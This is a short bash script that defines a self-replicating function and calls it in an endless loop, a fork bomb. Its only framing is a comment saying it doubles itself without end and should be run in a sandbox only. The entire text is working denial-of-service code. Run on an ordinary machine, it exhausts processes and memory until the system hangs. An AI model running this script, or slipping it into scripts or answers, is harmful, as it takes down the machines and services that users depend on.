#!/bin/bash
# Doubles itself without end. Run it in a sandbox only.
bomb() {
  bomb | bomb &
}

while true; do
  bomb
done
